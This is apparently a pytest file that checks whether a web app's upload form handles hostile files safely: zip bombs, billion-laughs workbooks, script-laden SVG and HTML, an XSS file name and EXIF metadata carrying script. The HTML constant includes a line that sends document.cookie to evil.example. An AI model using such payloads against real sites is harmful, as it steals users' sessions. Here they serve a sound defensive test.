"""What attackers hand in, by the form that clerks use: answered by a finding, and never run."""

import io
import time
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from tests.desk.conftest import Desk, Visitor, as_asked
from tests.hostile.bomb import BOMBS, STOP
from tests.hostile.handed_in import MADE_BY, grown, measured

OFFICE = "Desa Rejo"
SECONDS_MOST, GROWN_MOST_KB = 60, 50 << 10
LIMITS = "[limits]\nmemory_mb = 2048\nseconds = 60\nfile_mb = 300\n"
# No upload is a pipe, a device or a folder; and an empty one is refused by the form.
_NO_UPLOADS = {"pipe.csv", "device.csv", "folder.csv", "changes.csv", "empty.csv"}
_SLICE = ("zip-of-zeros.zip", "billion-laughs.xlsx", "nul.csv", "one-cell.csv", "calls-out.xlsx")
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
HTML = b"<!doctype html><script>fetch('https://evil.example/'+document.cookie)</script>"

assert MADE_BY  # by whose import the list is filled


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory):
    yield from as_asked(tmp_path_factory, LIMITS)


@pytest.fixture(scope="module")
def clerk(desk: Desk) -> Visitor:
    return desk.signed_in("sari", "publisher", OFFICE)


def handed_in(desk: Desk, clerk: Visitor, name: str, content: bytes) -> dict[str, Any]:
    """Hand a file in by the form, have it checked, and look at its page."""
    from pendopo.desk.models import Submission

    before, began = measured(), time.monotonic()
    sent = clerk.upload("/hand-in/", (name, content), register="datasets", office=OFFICE)
    desk.work()
    page = clerk.get(sent.to)
    took, grew = time.monotonic() - began, grown() - before
    one = Submission.objects.latest("pk")
    assert one.version
    return {
        "took": took,
        # The form's content lies in this process beside the desk, which a browser's does not.
        "grew": grew - 3 * len(content) // 1024,
        "status": page.status,
        "page": page.text,
        "stage": one.stage,
        "findings": (one.version.report or {}).get("findings", []),
        "file": f"{sent.to}versions/1/",
    }


def hold_answered(found: dict[str, Any], outcome: str) -> None:
    assert found["status"] == 200
    assert found["took"] < SECONDS_MOST + 15  # ended at sixty, then cleared away
    assert found["grew"] < GROWN_MOST_KB
    assert found["stage"] == ("mending" if outcome == STOP else found["stage"])
    assert found["findings"]
    assert "alert(1)" not in found["page"].replace("&lt;", "")


@pytest.mark.parametrize("name", _SLICE)
def test_a_bomb_is_answered_by_a_finding(desk: Desk, clerk: Visitor, name: str, tmp_path: Path):
    BOMBS[name].make(tmp_path / name, full=False)

    found = handed_in(desk, clerk, name, (tmp_path / name).read_bytes())

    hold_answered(found, BOMBS[name].outcome)
    assert clerk.get("/").status == 200


@pytest.mark.campaign
@pytest.mark.parametrize("name", [one for one in BOMBS if one not in _NO_UPLOADS])
def test_each_bomb_is_answered_at_its_largest_too(
    desk: Desk, clerk: Visitor, name: str, tmp_path: Path
):
    BOMBS[name].make(tmp_path / name, full=True)
    if (tmp_path / name).stat().st_size > 100_000_000:
        pytest.skip("larger than the desk takes")

    hold_answered(handed_in(desk, clerk, name, (tmp_path / name).read_bytes()), BOMBS[name].outcome)


def photo() -> bytes:
    """A photo that says where it was taken (Exif, GPS)."""
    exif = Image.Exif()
    exif.get_ifd(0x8825).update({1: "S", 2: (7.0, 47.0, 43.4), 3: "E", 4: (110.0, 22.0, 9.6)})
    exif[0x010F] = "<script>alert(1)</script>"
    kept = io.BytesIO()
    Image.new("RGB", (8, 8)).save(kept, "JPEG", exif=exif)
    return kept.getvalue()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("picture.svg", SVG),
        ("picture.xlsx", SVG),
        ("page.html", HTML),
        ('"><script>alert(1)</script>.csv', HTML),
        ("photo.jpg", photo()),
        ("photo.csv", photo()),
    ],
    ids=["svg", "svg as a workbook", "page", "name", "photo", "photo as a table"],
)
def test_what_is_no_table_is_stopped_and_given_back_as_bytes_alone(
    desk: Desk, clerk: Visitor, name: str, content: bytes
):
    found = handed_in(desk, clerk, name, content)
    file = clerk.get(found["file"])

    hold_answered(found, STOP)
    assert file.body == content
    assert file.headers["Content-Type"] == "application/octet-stream"
    assert file.headers["Content-Disposition"].startswith("attachment")
    assert file.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert file.headers["X-Content-Type-Options"] == "nosniff"
    assert file.headers["Cross-Origin-Resource-Policy"] == "same-origin"
